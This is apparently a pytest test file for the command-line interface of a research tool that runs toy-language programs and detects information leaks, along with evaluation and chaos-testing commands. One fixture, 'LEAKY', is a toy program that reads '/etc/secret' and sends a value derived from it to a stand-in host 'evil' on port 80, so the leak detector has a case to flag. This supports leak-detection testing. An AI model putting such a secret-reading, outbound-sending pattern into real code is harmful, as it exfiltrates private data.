"""Unit tests for the command-line interface."""

import pytest

from repro.cli import main

LEAKY = """
fn main() {
  var fd = open("/etc/secret", "r");
  var x = parse_int(read(fd, 8));
  close(fd);
  var y = 0;
  if (x == 7) { y = 1; } else { y = 2; }
  var s = socket();
  connect(s, "evil", 80);
  send(s, y);
}
"""

CLEAN = """
fn main() {
  print("hello cli");
}
"""


@pytest.fixture
def leaky_program(tmp_path):
    path = tmp_path / "leaky.mc"
    path.write_text(LEAKY)
    return str(path)


@pytest.fixture
def clean_program(tmp_path):
    path = tmp_path / "clean.mc"
    path.write_text(CLEAN)
    return str(path)


def test_run_command(clean_program, capsys):
    code = main(["run", clean_program])
    assert code == 0
    assert "hello cli" in capsys.readouterr().out


def test_leak_command_detects(leaky_program, capsys):
    code = main(
        [
            "leak",
            leaky_program,
            "--secret-file",
            "/etc/secret",
            "--file",
            "/etc/secret=7",
            "--endpoint",
            "evil:80=",
        ]
    )
    assert code == 1  # causality detected
    assert "CAUSALITY" in capsys.readouterr().out


def test_leak_command_clean_exit(clean_program, capsys):
    code = main(
        ["leak", clean_program, "--secret-stdin", "--stdin", "ignored", "--sinks", "file"]
    )
    assert code == 0
    assert "no causality" in capsys.readouterr().out


def test_leak_requires_sources(clean_program):
    with pytest.raises(SystemExit):
        main(["leak", clean_program])


def test_bad_file_spec_rejected(clean_program):
    with pytest.raises(SystemExit):
        main(["run", clean_program, "--file", "no-equals-sign"])


def test_endpoint_without_colon_is_diagnosed(clean_program):
    """A raw ValueError traceback is a bug; bad specs exit cleanly."""
    with pytest.raises(SystemExit) as excinfo:
        main(["run", clean_program, "--endpoint", "hostonly=reply"])
    assert "HOST:PORT" in str(excinfo.value)


def test_endpoint_with_nonnumeric_port_is_diagnosed(clean_program):
    with pytest.raises(SystemExit) as excinfo:
        main(["run", clean_program, "--endpoint", "host:notaport=reply"])
    assert "notaport" in str(excinfo.value)


def test_endpoint_missing_equals_is_diagnosed(clean_program):
    with pytest.raises(SystemExit):
        main(["run", clean_program, "--endpoint", "host:80"])


FILE_READER = """
fn main() {
  var fd = open("/in", "r");
  print(read(fd, 100));
  close(fd);
}
"""


@pytest.fixture
def reader_program(tmp_path):
    path = tmp_path / "reader.mc"
    path.write_text(FILE_READER)
    return str(path)


def test_file_content_newline_escape(reader_program, capsys):
    code = main(["run", reader_program, "--file", r"/in=a\nb"])
    assert code == 0
    assert "a\nb" in capsys.readouterr().out


def test_file_content_escaped_backslash_n_stays_literal(reader_program, capsys):
    # \\n is an escaped backslash followed by 'n', NOT a newline.
    code = main(["run", reader_program, "--file", "/in=a\\\\nb"])
    assert code == 0
    out = capsys.readouterr().out
    assert "a\\nb" in out
    assert "a\nb" not in out


def test_file_content_tab_and_trailing_backslash(reader_program, capsys):
    code = main(["run", reader_program, "--file", "/in=a\\tb\\"])
    assert code == 0
    assert "a\tb\\" in capsys.readouterr().out


def test_eval_rejects_bad_job_counts():
    # Invalid job counts are rejected by the parser (SystemExit 2)
    # before any evaluation work starts.
    with pytest.raises(SystemExit):
        main(["eval", "--jobs", "0", "--table4-runs", "1"])
    with pytest.raises(SystemExit):
        main(["eval", "--jobs", "zero"])


@pytest.mark.parametrize(
    "argv",
    [["eval", "--table4-runs", "0"], ["chaos", "--seeds", "0"]],
    ids=["table4-runs", "seeds"],
)
def test_empty_sweeps_are_rejected(argv, capsys):
    # A sweep over nothing would render a vacuous "ok" (or crash while
    # rendering Table 4's min/max of no runs).
    with pytest.raises(SystemExit) as exit_info:
        main(argv)
    assert exit_info.value.code == 2
    assert "must be >= 1, got 0" in capsys.readouterr().err


@pytest.mark.parametrize("verb", ["eval", "chaos", "serve-chaos"])
def test_nodes_with_jobs_is_a_diagnosed_error(verb, capsys):
    code = main([verb, "--jobs", "2", "--nodes", "localhost,localhost",
                 "--no-store"])
    assert code == 2
    assert "ExecutorError" in capsys.readouterr().err


# -- chaos and service verbs ---------------------------------------------------


@pytest.mark.parametrize(
    "store_args, hint",
    [
        pytest.param(
            ["--store-path", "{tmp}/chaos.sqlite"],
            "results store ({tmp}/chaos.sqlite); rerun the same command",
            id="store",
        ),
        pytest.param(["--no-store"], "rerun without --no-store", id="no-store"),
    ],
)
def test_chaos_interrupt_prints_resume_hint(
    tmp_path, monkeypatch, capsys, store_args, hint
):
    import repro.eval.robustness as robustness

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(robustness, "run_chaos", interrupted)
    store_args = [arg.format(tmp=tmp_path) for arg in store_args]
    code = main(["chaos", "--workload", "gzip", *store_args])
    assert code == 130
    err = capsys.readouterr().err
    assert "interrupted" in err
    assert hint.format(tmp=tmp_path) in err
    assert "--resume" not in err


def test_serve_chaos_smoke(capsys):
    code = main(
        [
            "serve-chaos",
            "--requests",
            "6",
            "--workers",
            "2",
            "--poison-every",
            "3",
            "--fault-rate",
            "0.0",
        ]
    )
    out = capsys.readouterr().out
    assert code == 0
    assert "all service invariants hold" in out
